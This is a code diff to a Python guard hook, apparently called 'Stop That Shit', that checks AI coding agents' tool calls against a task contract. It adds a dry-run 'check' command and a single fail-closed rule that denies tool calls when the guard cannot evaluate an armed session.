+    opts: Dict[str, Any] = {"host": "claude", "contract": None, "cwd": None, "json": False,
+                            "tool": None, "paths": [], "content": "", "input": None,
+                            "command": None}
+    valued = {"--host": "host", "--contract": "contract", "--cwd": "cwd", "--tool": "tool",
+              "--path": "paths", "--content": "content", "--input": "input"}
+    i = 0
+    while i < len(args):
+        arg = args[i]
+        name, eq, value = arg.partition("=")
+        if arg == "--":
+            if i + 1 >= len(args):
+                return None
+            opts["command"] = " ".join(args[i + 1:])
+            break
+        if arg == "--json":
+            opts["json"] = True
+        elif name in valued:
+            if not eq:
+                if i + 1 >= len(args):
+                    return None
+                i += 1
+                value = args[i]
+            if name == "--path":
+                opts["paths"].append(value)
+            else:
+                opts[valued[name]] = value
+        else:
+            return None
+        i += 1
+    if opts["host"] not in _CHECK_TOOLS:
+        return None
+    if opts["command"] is not None and (opts["paths"] or opts["input"] is not None):
+        return None
+    if opts["command"] is None and opts["tool"] is not None \
+            and not opts["paths"] and opts["input"] is None:
+        return None
+    if opts["input"] is not None:
+        try:
+            opts["input"] = json.loads(opts["input"])
+        except ValueError:
+            return None
+    return opts
+
+
+def check_call(host: str, payload: dict, contract: Optional[str], real: Store,
+               tmp: str) -> Dict[str, Any]:
+    """The hook's answer to one tool call under `contract` (a directive without
+    the `$stop-that-shit` word, applied as a prompt would be), else under the
+    contract the session holds (a new session's comes from the defaults).
+    ValueError for a bad directive or an event that is not a tool call."""
+    store = _WhatIfStore(tmp, real)
+    adapter = ADAPTERS[host]
+    call = adapter.translate(payload, store)
+    if call is None or call.event is None or call.event.get("kind") != "action.before":
+        raise ValueError("the event is not a tool call the guard judges")
+    event = ControlEvent.from_dict(call.event)
+    key = session_key(event.session_id)
+    # The session's own state, or what a new one starts with (the user's and
+    # the repository's default contracts, read for the call's folder).
+    real.folder = getattr(event.action, "cwd", None)
+    state = real.load(key).state
+    state = dict(state, delegation=default_state()["delegation"])
+    if contract is not None:
+        text = contract.strip()
+        if not text.startswith(DIRECTIVE):
+            text = "%s %s" % (DIRECTIVE, text)
+        outcome = interpret_prompt(state["contract"], text)
+        if outcome.kind != "directive":
+            raise ValueError("contract rejected: %s" % directive_error_text(outcome.error))
+        state["contract"] = outcome.contract
+    store.update(key, lambda loaded: (state, None))
+    result = handle_event(event, store, adapter.response_outcome)
+    verdict = {"none": "allow", "context": "note"}.get(result.kind, "deny")
+    lines = result.text.split("\n") if result.text else []
+    pick = lambda word: [ln[len(word):] for ln in lines if ln.startswith(word)]  # noqa: E731
+    return {"verdict": verdict, "reason": result.code, "host": host,
+            "contract": contract_words(state["contract"]),
+            "culprit": " ".join(pick("Culprit: ")) or None,
+            "instead": " ".join(pick("Instead: ")) or None,
+            "next": " ".join(pick("Next: ")) or None,
+            "message": result.text or None}
+
+
+def cmd_check(args: List[str], store: Optional[Store] = None) -> int:
+    """`check`: the hook's verdict on one call, touching no session and no
+    audit.  Exit 0 allowed (a note too), 1 denied, 2 usage."""
+    import shutil
+    import tempfile
+    opts = _check_parse(args)
+    if opts is None:
+        sys.stderr.write(_CHECK_USAGE + "\n")
+        return 2
+    store = store or Store()
+    host, cwd = opts["host"], os.path.abspath(opts["cwd"] or os.getcwd())
+    if opts["command"] is None and opts["tool"] is None and opts["input"] is None \
+            and not opts["paths"]:
+        if sys.stdin.isatty():
+            sys.stderr.write(_CHECK_USAGE + "\n")
+            return 2
+        try:
+            payload = json.loads(sys.stdin.buffer.read(8 << 20).decode("utf-8"))
+        except ValueError:
+            payload = None
+        if not isinstance(payload, dict):
+            sys.stderr.write("sts check: stdin holds no host event (one JSON object)\n")
+            return 2
+    else:
+        payload = _check_tool_call(host, opts["command"], opts["tool"], opts["paths"],
+                                   opts["content"], opts["input"], cwd)
+    tmp = tempfile.mkdtemp(prefix="sts-check-")
+    try:
+        answer = check_call(host, payload, opts["contract"], store, tmp)
+    except (ValueError, EventError) as exc:
+        sys.stderr.write("sts check: %s\n" % exc)
+        return 2
+    finally:
+        shutil.rmtree(tmp, ignore_errors=True)
+    if opts["json"]:
+        _inspect_json(dict({"schemaVersion": 1}, **answer))
+    else:
+        word = {"allow": "Allowed", "note": "Allowed, with a note", "deny": "Denied"}
+        out = ["%s: %s (on %s; contract: %s)" % (word[answer["verdict"]], answer["reason"],
+                                                 host, answer["contract"])]
+        if answer["message"]:
+            out.append(answer["message"])
+        sys.stdout.write("\n".join(out) + "\n")
+    return 1 if answer["verdict"] == "deny" else 0
+
+
 ###############################################################################
 # CLI
 #
 # Owns the hook runner and main().  A hook never shows the host a traceback.
-# Input that is empty, not JSON or not an object, and an event that fails
-# validation, fail open: no answer, one stderr line, exit 0.  An internal
-# error, or input over 8 MiB or not UTF-8, fails open too, except on a tool
-# call in a session known to be armed: there the call is denied, because the
-# host would run the tool when the hook crashes.
+# One rule covers every way the guard can fail to answer (input that is not
+# a JSON object, too deep, too large or not UTF-8, an event that fails
+# validation, an event name the adapter does not know, a lock that stays
+# busy, any exception on the way): on a tool event of a session that is or
+# may be armed, the call is denied with a message that says why, because
+# the host would run the tool on silence; anywhere else the hook fails open
+# (the host's "nothing to add", one stderr line, exit 0), so the host keeps
+# working.
 ###############################################################################
 
 
@@ -27656,20 +29646,44 @@ ADAPTERS: Dict[str, Adapter] = {
     "claude": ClaudeAdapter(),
 }
 
-STDIN_CAP = 8 * 1024 * 1024      # larger input is not parsed (see _unreadable_input)
-_SCAN_CAP = 64 * 1024
-# Host event names after which the host runs a tool (fail-closed candidates).
-_TOOL_HOOK_NAMES = ("PreToolUse", "pre_tool_call", "tool.execute.before", "tool_call",
-                    "BeforeTool", "preToolUse")
+STDIN_CAP = 8 * 1024 * 1024      # larger input is not parsed (see _cannot_answer)
+# Host event names after which the host runs a tool (fail-closed candidates),
+# compared without case: a hook wired as `pretooluse` is still one.
+_TOOL_HOOK_NAMES = frozenset(name.lower() for name in (
+    "PreToolUse", "pre_tool_call", "tool.execute.before", "tool_call", "BeforeTool",
+    "preToolUse"))
+# Top-level fields by which a payload whose event name is missing or unknown
+# (a Copilot hook wired without its event, or `preToolUze`) shows that a tool
+# is about to run, and those that show it already ran.
+_TOOL_FIELDS = ("tool_name", "toolName", "tool_input", "toolArgs")
+_RESULT_FIELDS = ("tool_response", "toolResult", "tool_result", "tool_output")
+# Where the raw text of an event that did not parse names its session and event.
+_SESSION_FIELDS = ("session_id", "sessionId", "parent_session_id", "parentSessionId",
+                   "parentAgentId")
+_HOOK_NAME_FIELDS = ("hook_event_name", "hook")
 
-_INTERNAL_ERROR_REASON = (
-    "Stop That Shit could not evaluate this call (internal error: {error}); the task "
-    "contract is armed, so the call is blocked. Fix sts.py, or turn the guard off for "
-    "this session with `$stop-that-shit off`.")
-_OVERSIZE_REASON = (
-    "Stop That Shit could not evaluate this call: the input is too large or not UTF-8 "
-    "text. The task contract is armed, so the call is blocked. Turn the guard off with "
-    "`$stop-that-shit off` if this call is intended.")
+_CANNOT_ANSWER_REASON = (
+    "Stop That Shit could not evaluate this call: {why}. The task contract is (or may be) "
+    "armed, so the call is blocked. Fix the cause, or turn the guard off for this "
+    "session with `$stop-that-shit off` if this call is intended.")
+# Why, per exception class, in the words of the deny (first match wins).
+_FAILURE_WHY = (
+    (RecursionError, "the event is nested too deeply to read"),
+    (MemoryError, "the event is too large to read"),
+    (UnicodeError, "the event is not valid text"),
+    (EventError, "the event is not one the guard can read ({text})"),
+    (LockTimeout, "the session state stayed locked by another hook ({text})"),
+    (OSError, "a file of the guard could not be read or written ({text})"),
+    (Exception, "internal error: {name}"),
+)
+
+
+class _CannotAnswer(Exception):
+    """The guard cannot judge this event; `why` goes into the deny."""
+
+    def __init__(self, error: str, why: str) -> None:
+        super().__init__(why)
+        self.error, self.why = error, why
 
 
 def _fail_open(error: str, reason: str) -> str:
@@ -27677,36 +29691,115 @@ def _fail_open(error: str, reason: str) -> str:
     return ""
 
 
-def _session_armed(store: Store, session_id: Optional[str]) -> bool:
-    """Armed by marker, or by a readable contract at guard/lock."""
-    if not session_id:
-        return False
-    key = session_key(session_id)
-    try:
-        if store.armed_marker(key):
-            return True
-        loaded = store.load(key)
-        return _armed(loaded.state, loaded.storage_error)
-    except Exception:  # noqa: BLE001 - already on the failure path
-        return False
-
-
-def _scan_for(raw: bytes, names: Tuple[str, ...]) -> Optional[str]:
-    """The first string value of one of `names` in the head of unparseable input."""
-    head = raw[:_SCAN_CAP].decode("utf-8", "replace")
+def _scan_all(raw: Any, names: Tuple[str, ...]) -> List[str]:
+    """Every string value of one of `names` in input that did not parse: any of
+    them may be the real one, so the caller asks about all of them.  A name
+    inside a JSON string is escaped (`\\"session_id\\"`) and does not match."""
+    if isinstance(raw, bytes):
+        raw = raw.decode("utf-8", "replace")
+    found: List[str] = []
     for name in names:
         marker = '"%s"' % name
-        at = head.find(marker)
+        at = raw.find(marker)
         while at >= 0:
-            rest = head[at + len(marker):].lstrip()
+            rest = raw[at + len(marker):at + len(marker) + 512].lstrip()
             if rest.startswith(":"):
                 rest = rest[1:].lstrip()
-                if rest.startswith('"'):
-                    end = rest.find('"', 1)
-                    if end > 1:
-                        return rest[1:end]
-            at = head.find(marker, at + 1)
-    return None
+                end = rest.find('"', 1)
+                if rest.startswith('"') and end > 1 and rest[1:end] not in found:
+                    found.append(rest[1:end])
+            at = raw.find(marker, at + 1)
+    return found
+
+
+def _may_be_armed(store: Store, sessions: List[str]) -> bool:
+    """Whether any of `sessions` (or its root) is armed, or cannot be known not
+    to be: state that cannot be read, or no session named while some session
+    of this store is armed."""
+    if not sessions:
+        try:
+            return bool(os.listdir(store.path("armed")))
+        except FileNotFoundError:
+            return False
+        except Exception:  # noqa: BLE001 - already on the failure path
+            return True
+    for session in sessions:
+        try:
+            key = session_key(session)
+            root = store.link_root(session)
+            if store.armed_marker(key) or (root and store.armed_marker(session_key(root))):
+                return True
+            loaded = store.load(key)
+            if _armed(loaded.state, loaded.storage_error):
+                return True
+        except Exception:  # noqa: BLE001 - unreadable state may be armed state
+            return True
+    return False
+
+
+def _tool_event(adapter: Adapter, payload: Any, call: Optional[HookCall], raw: bytes,
+                event: Optional[str]) -> bool:
+    """Whether the host will run a tool after this hook, as far as can be told:
+    the translation says so, an event name says so, or the name is missing or
+    unknown to the adapter and the payload names a tool about to run."""
+    if call is not None and call.tool_call:
+        return True
+    texts = [raw] + ([payload] if isinstance(payload, str) else [])
+    if isinstance(payload, dict):
+        names = [payload.get(field) for field in _HOOK_NAME_FIELDS]
+    else:
+        names = [n for text in texts for n in _scan_all(text, _HOOK_NAME_FIELDS)]
+    names = [n for n in names + [event] if isinstance(n, str) and n]
+    if any(n.lower() in _TOOL_HOOK_NAMES for n in names):
+        return True
+    if any(n in adapter.EVENTS for n in names):
+        return False
+    if isinstance(payload, dict):
+        if any(f in payload for f in _RESULT_FIELDS):
+            return False
+        return any(f in payload for f in _TOOL_FIELDS) or _names_a_tool(payload.get("payload"))
+    # Input that is no event object and names no event (`[]`, `42`, a cut-off
+    # object) may be any of the host's events, a tool call among them.
+    return True
+
+
+def _names_a_tool(body: Any, depth: int = 3) -> bool:
+    """Whether a shim's event body names a tool (OpenCode `input.tool`, Pi and
+    Oh My Pi `event.toolName`) a few levels down."""
+    if not isinstance(body, dict) or depth == 0:
+        return False
+    return any(f in body for f in _TOOL_FIELDS + ("tool",)) or \
+        any(_names_a_tool(v, depth - 1) for v in body.values())
+
+
+def _cannot_answer(adapter: Adapter, raw: bytes, store: Store, event: Optional[str],
+                   payload: Any, call: Optional[HookCall], error: str, why: str) -> str:
+    """The one failure rule: deny a tool event of a session that is or may be
+    armed, saying why; fail open everywhere else."""
+    try:
+        tool = _tool_event(adapter, payload, call, raw, event)
+    except Exception:  # noqa: BLE001 - cannot tell: a tool event may follow
+        tool = True
+    if tool:
+        sessions = [call.session_id] if call is not None and call.session_id else []
+        try:
+            if isinstance(payload, dict) and adapter.session_of(payload):
+                sessions.append(adapter.session_of(payload))
+            for text in ([raw] + ([payload] if isinstance(payload, str) else [])):
+                sessions.extend(s for s in _scan_all(text, _SESSION_FIELDS) if s not in sessions)
+        except Exception:  # noqa: BLE001 - the sessions found so far, or none
+            pass
+        if any("\ufffd" in s for s in sessions):
+            sessions = []   # an id cut by bytes that are not UTF-8 is no id: any session may be meant
+        if _may_be_armed(store, sessions):
+            sys.stderr.write("sts: failed closed: %s: %s\n" % (error, why))
+            result = CoreResult("deny", _CANNOT_ANSWER_REASON.format(why=why), "CANNOT_EVALUATE")
+            name = call.host_event if call is not None else event or "PreToolUse"
+            return adapter.render(result, HookCall(name, tool_call=True))
+    _fail_open(error, why if tool else "%s; not a tool call" % why)
+    # An event the adapter translated gets the host's own "nothing to add"
+    # (a shim needs its `{}`); input that never became one gets silence.
+    return adapter.render(NO_RESULT, call) if call is not None else ""
 
 
 def run_hook(host: str, raw: bytes, store: Optional[Store] = None,
@@ -27722,76 +29815,64 @@ def run_hook(host: str, raw: bytes, store: Optional[Store] = None,
         store.touch_host(host)
     except Exception:  # noqa: BLE001 - doctor's hint only
         pass
-    text = None
-    if len(raw) <= STDIN_CAP:
-        try:
-            text = raw.decode("utf-8")
-        except UnicodeDecodeError:
-            text = None
-    if text is None:
-        return _unreadable_input(adapter, raw, store, event)
+    seen: List[Any] = [None, None]   # the payload and the translated call, once known
+    try:
+        return _judge_hook(adapter, raw, store, event, seen)
+    except _CannotAnswer as exc:
+        error, why = exc.error, exc.why
+    except Exception as exc:  # noqa: BLE001 - hosts run the tool when a hook fails: the rule decides
+        error = type(exc).__name__
+        why = next(text for kind, text in _FAILURE_WHY if isinstance(exc, kind))
+        why = why.format(name=error, text=str(exc)[:200] or error)
+    return _cannot_answer(adapter, raw, store, event, seen[0], seen[1], error, why)
+
+
+def _judge_hook(adapter: Adapter, raw: bytes, store: Store, event: Optional[str],
+                seen: List[Any]) -> str:
+    if len(raw) > STDIN_CAP:
+        raise _CannotAnswer("UnreadableInput", "the input is too large (over 8 MiB)")
+    try:
+        text = raw.decode("utf-8")
+    except UnicodeDecodeError:
+        raise _CannotAnswer("UnreadableInput", "the input is not UTF-8 text")
     if not text.strip():
-        return _fail_open("EmptyInput", "no event on stdin")
+        raise _CannotAnswer("EmptyInput", "no event on stdin")
     try:
         payload = json.loads(text)
     except ValueError as exc:
-        return _fail_open("InvalidJSON", str(exc).split(":")[0])
+        raise _CannotAnswer("InvalidJSON", "the input is not JSON (%s)" % str(exc).split(":")[0])
+    seen[0] = payload
     if not isinstance(payload, dict):
-        return _fail_open("InvalidEvent", "the event is not a JSON object")
+        raise _CannotAnswer("InvalidEvent", "the event is not a JSON object")
     if event and not isinstance(payload.get("hook_event_name"), str):
         payload["hook_event_name"] = event
-    call = None
-    try:
-        call = adapter.translate(payload, store)
-        if call is None:
-            return ""
-        if call.event is None:
-            return adapter.render(call.answer or NO_RESULT, call)
-        event = ControlEvent.from_dict(call.event)
-        prior = ControlEvent.from_dict(call.prior) if call.prior is not None else None
-    except EventError as exc:
-        return _fail_open("EventError", str(exc))
-    except Exception as exc:  # noqa: BLE001 - hosts run the tool when a hook crashes: catch here
-        return _internal_error(adapter, call, payload, store, exc)
-    try:
-        said = handle_event(prior, store, adapter.response_outcome) if prior else None
-        result = handle_event(event, store, adapter.response_outcome)
-    except LockTimeout as exc:
-        return _fail_open("LockTimeout", str(exc))
-    except Exception as exc:  # noqa: BLE001
-        return _internal_error(adapter, call, payload, store, exc)
+    call = adapter.translate(payload, store)
+    seen[1] = call
+    name = adapter.event_name(payload)
+    if (call is None or (call.event is None and call.answer is NO_RESULT)) \
+            and _tool_event(adapter, payload, call, raw, event):
+        # Every adapter answers its own tool events; no answer means it could
+        # not read this one (no session, no tool, an unknown event name).
+        raise _CannotAnswer("UnreadEvent", (
+            "the %s hook event %s could not be read as a tool call (its event name is "
+            "missing or unknown, or it names no session, no tool input, or no call id "
+            "for a delegation); check how the hook is wired") % (
+                adapter.host, json.dumps(name) if name else "with no event name"))
+    if call is None:
+        return ""
+    if call.event is None:
+        return adapter.render(call.answer or NO_RESULT, call)
+    judged = ControlEvent.from_dict(call.event)
+    # A prompt the host never sent as an event (Droid's transcript) is
+    # handled first, and its context travels with the tool call's answer.
+    prior = ControlEvent.from_dict(call.prior) if call.prior is not None else None
+    said = handle_event(prior, store, adapter.response_outcome) if prior else None
+    result = handle_event(judged, store, adapter.response_outcome)
     if said is not None and said.kind == "context" and said.text \
             and result.kind in ("none", "context"):
         text = "\n\n".join(t for t in (said.text, result.text) if t)
         result = CoreResult("context", text, result.code, result.event_id)
     return adapter.render(result, call)
-
-
-def _internal_error(adapter: Adapter, call: Optional[HookCall], payload: dict,
-                    store: Store, exc: BaseException) -> str:
-    error = type(exc).__name__
-    is_tool = call.tool_call if call is not None else \
-        adapter.event_name(payload) in _TOOL_HOOK_NAMES
-    session = (call.session_id if call is not None else None) or adapter.session_of(payload)
-    if is_tool and _session_armed(store, session):
-        sys.stderr.write("sts: failed closed: %s\n" % error)
-        result = CoreResult("deny", _INTERNAL_ERROR_REASON.format(error=error), "INTERNAL_ERROR")
-        return adapter.render(result, call or HookCall("PreToolUse", tool_call=True))
-    return _fail_open(error, "internal error; the session is not armed")
-
-
-def _unreadable_input(adapter: Adapter, raw: bytes, store: Store,
-                      event: Optional[str] = None) -> str:
-    """Input over the cap or not UTF-8 is not parsed: only its first 64 KiB are
-    scanned for a session id.  Deny when that session is armed and this is a
-    tool hook; otherwise fail open."""
-    session = _scan_for(raw, ("session_id", "sessionId"))
-    hook = _scan_for(raw, ("hook_event_name", "hook")) or event
-    if hook in _TOOL_HOOK_NAMES and _session_armed(store, session):
-        sys.stderr.write("sts: failed closed: input too large to evaluate\n")
-        result = CoreResult("deny", _OVERSIZE_REASON, "INPUT_TOO_LARGE")
-        return adapter.render(result, HookCall(hook, tool_call=True))
-    return _fail_open("UnreadableInput", "input over 8 MiB or not UTF-8")
 
 
 def _read_stdin() -> bytes:
@@ -27812,14 +29893,18 @@ hooks (read one host event on stdin):
 inspection:
   status  [--session ID] [--json]       contract and counts of a session
   runtime [all] [--session ID] [--json] audit summary
-  explain EVT                           one audited decision
+  log [N] [--session ID] [--verdict V] [--json]  the last decisions of every session
+  explain EVT                           one decision in words (any unique start of its id)
   label EVT correct|incorrect|inconclusive
+  check [--host H] [--contract "review"] [--json] -- 'command'
+  check ... --tool NAME --path P        what a hook would answer (exit 0 allowed,
+  check ... < host-event.json             1 denied, 2 usage); writes nothing
 
 setup:
   install <host> [--scope user|project] [--dry-run] [--default "<fields>"|off]
   uninstall <host> [--scope user|project] [--dry-run]
   default ["<fields>" | off]            show or set the contract of sessions without a directive
-  doctor
+  doctor [HOST...] [--json]
   demo                                  replay a short Codex session
   --help | --version
 """
@@ -27837,6 +29922,32 @@ def _exit_now(code: int) -> None:
         sys.stderr.flush()
     finally:
         os._exit(code)
+
+
+def _unknown_command(command: str) -> int:
+    """A word that is neither a host nor a command.  From a terminal it is a
+    usage error (exit 2).  From a host (stdin is no terminal), most likely a
+    hook wired with a misspelt host name, exit 2 would make Claude Code and
+    its kin block every prompt and call: the event is read and dropped, and
+    one line says what is wrong, with exit 1, which those hosts show and run on."""
+    import difflib
+    close = difflib.get_close_matches(command, list(_HOOK_HOSTS) + list(_COMMANDS), 1)
+    hint = " (did you mean %s?)" % close[0] if close else ""
+    try:
+        from_host = not sys.stdin.isatty()
+    except (AttributeError, ValueError, OSError):
+        from_host = False
+    if not from_host:
+        sys.stderr.write("sts: unknown command %r%s (see --help)\n" % (command, hint))
+        return 2
+    try:
+        _read_stdin()
+    except (OSError, ValueError):
+        pass
+    sys.stderr.write("sts: %r is not a host sts knows%s; this hook did nothing and the host "
+                     "goes on unguarded. Fix the hook command (python3 sts.py doctor finds "
+                     "it).\n" % (command, hint))
+    return 1
 
 
 def main(argv: Optional[List[str]] = None) -> int:
@@ -27874,8 +29985,7 @@ def main(argv: Optional[List[str]] = None) -> int:
         return 0
     handler = _COMMANDS.get(command)
     if handler is None:
-        sys.stderr.write("sts: unknown command %r (see --help)\n" % command)
-        return 2
+        return _unknown_command(command)
     try:
         return handler(rest)
     except BrokenPipeError:
@@ -27949,9 +30059,11 @@ _COMMANDS: Dict[str, Callable[[List[str]], int]] = {
     "runtime": lambda rest: _cold("cmd_inspect")(["runtime"] + rest, Store()),
     "explain": lambda rest: _cold("cmd_inspect")(["explain"] + rest, Store()),
     "label": lambda rest: _cold("cmd_inspect")(["label"] + rest, Store()),
+    "log": lambda rest: _cold("cmd_log")(rest, Store()),
     "install": lambda rest: _cold("cmd_install")(rest),
     "uninstall": lambda rest: _cold("cmd_uninstall")(rest),
     "doctor": lambda rest: _cold("cmd_doctor")(rest),
+    "check": lambda rest: _cold("cmd_check")(rest),
     "default": lambda rest: _cold("cmd_default")(rest),
     "demo": cmd_demo,
     "cases": lambda rest: _cold("cmd_cases")(rest),
